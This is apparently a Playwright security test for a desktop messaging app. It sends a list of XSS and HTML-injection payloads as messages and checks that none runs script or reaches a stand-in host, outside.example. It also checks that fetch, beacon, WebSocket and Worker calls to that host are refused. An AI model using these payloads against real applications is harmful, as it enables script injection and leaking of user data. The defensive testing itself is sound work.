import { expect } from '@playwright/test';
import { test } from '../../app/desktop-test.ts';
import { traces } from '../../app/desktop-traces.ts';

const OUTSIDE = 'https://outside.example/';

/** What runs a script, or tells somebody else, where text is taken for more than text. */
const PAYLOADS: readonly string[] = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<img src="https://outside.example/pixel.png">',
  '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<iframe src="https://outside.example/"></iframe>',
  '<a href="javascript:window.hacked = 1">press</a>',
  '[press](javascript:window.hacked=1)',
  '[press](JaVaScRiPt:window.hacked=1)',
  '[press](data:text/html,<script>window.hacked=1</script>)',
  '![picture](https://outside.example/pixel.png)',
  '![picture](x" onerror="window.hacked=1)',
  '<style>@import url(https://outside.example/a.css);</style>',
  '<link rel="stylesheet" href="https://outside.example/a.css">',
  '<object data="https://outside.example/"></object>',
  '<embed src="https://outside.example/">',
  '<base href="https://outside.example/">',
  '<meta http-equiv="refresh" content="0; url=https://outside.example/">',
  '<form action="https://outside.example/"><button>press</button></form>',
  '<math><mtext><mglyph><style><img src=x onerror="window.hacked=1"></style></mglyph></mtext></math>',
  '<details open ontoggle="window.hacked = 1">x</details>',
  '<video><source onerror="window.hacked = 1"></video>',
  '"><script>window.hacked = 1</script>',
  '`<img src=x onerror=window.hacked=1>`',
  '```html\n<script>window.hacked = 1</script>\n```',
  '{{constructor.constructor("window.hacked = 1")()}}',
  '\u202e<script>window.hacked = 1</script>',
];

test('E3 payloads as messages run nothing and call nowhere', async ({ world, desktopOf }) => {
  const [ana, ben] = [await world.person('Ana'), await world.person('Ben')];
  const conversationId = await world.direct(ana, ben);
  for (const payload of PAYLOADS) await world.send(ben, conversationId, payload);
  const anas = await desktopOf(ana);
  const violations: string[] = [];
  await traces(anas.desktop, anas.node.url);
  anas.page.on('console', (message) => message.text().includes('hacked') && violations.push(message.text()));
  const view = await anas.open(ben.displayName);
  await expect(view.log.getByRole('article').last()).toBeVisible();
  await expect.poll(() => view.log.getByRole('article').count()).toBeGreaterThan(5);
  await view.log.getByRole('article').first().hover();
  await world.send(ben, conversationId, 'the last of them');
  await expect(view.message('the last of them')).toBeVisible();
  expect(await anas.page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(await anas.page.evaluate(() => document.querySelectorAll('iframe, object, embed, base, [onerror], [onload]').length)).toBe(0);
  expect(await traces(anas.desktop, anas.node.url)).toEqual({ opened: [], tried: [] });
});

test('E3 a script that got in makes none of text and reaches no other server', async ({ world, desktopOf }) => {
  const { desktop, page, node } = await desktopOf(await world.person('Ana'));
  await traces(desktop, node.url);
  const refused = await page.evaluate(async (outside) => {
    // What a debugger runs may make code of text; what the page runs later may not.
    await new Promise((resolve) => setTimeout(resolve));
    const isRefused = async (work: () => unknown) => {
      try {
        await work();
        return false;
      } catch {
        return true;
      }
    };
    const element = document.createElement('div');
    const script = document.createElement('script');
    const types = (window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }).trustedTypes;
    return {
      innerHTML: await isRefused(() => {
        element.innerHTML = '<b>x</b>';
      }),
      scriptText: await isRefused(() => {
        script.text = 'window.hacked = 1';
      }),
      scriptSource: await isRefused(() => {
        script.src = `${outside}a.js`;
      }),
      eval: await isRefused(() => new Function('return 1')()),
      policy: await isRefused(() => types.createPolicy('mine', { createHTML: (text: string) => text })),
      fetch: await isRefused(() => fetch(outside)),
      beacon: !navigator.sendBeacon(`${outside}b`) || 'sent to nobody',
      worker: await isRefused(() => new Worker(`${outside}w.js`)),
      socket: await new Promise<boolean>((resolve) => {
        try {
          const socket = new WebSocket('wss://outside.example/');
          socket.addEventListener('error', () => resolve(true));
          socket.addEventListener('open', () => resolve(false));
        } catch {
          resolve(true);
        }
      }),
    };
  }, OUTSIDE);
  for (const [what, answer] of Object.entries(refused)) expect([what, answer]).not.toEqual([what, false]);
  expect((await traces(desktop, node.url)).tried).toEqual([]);
});
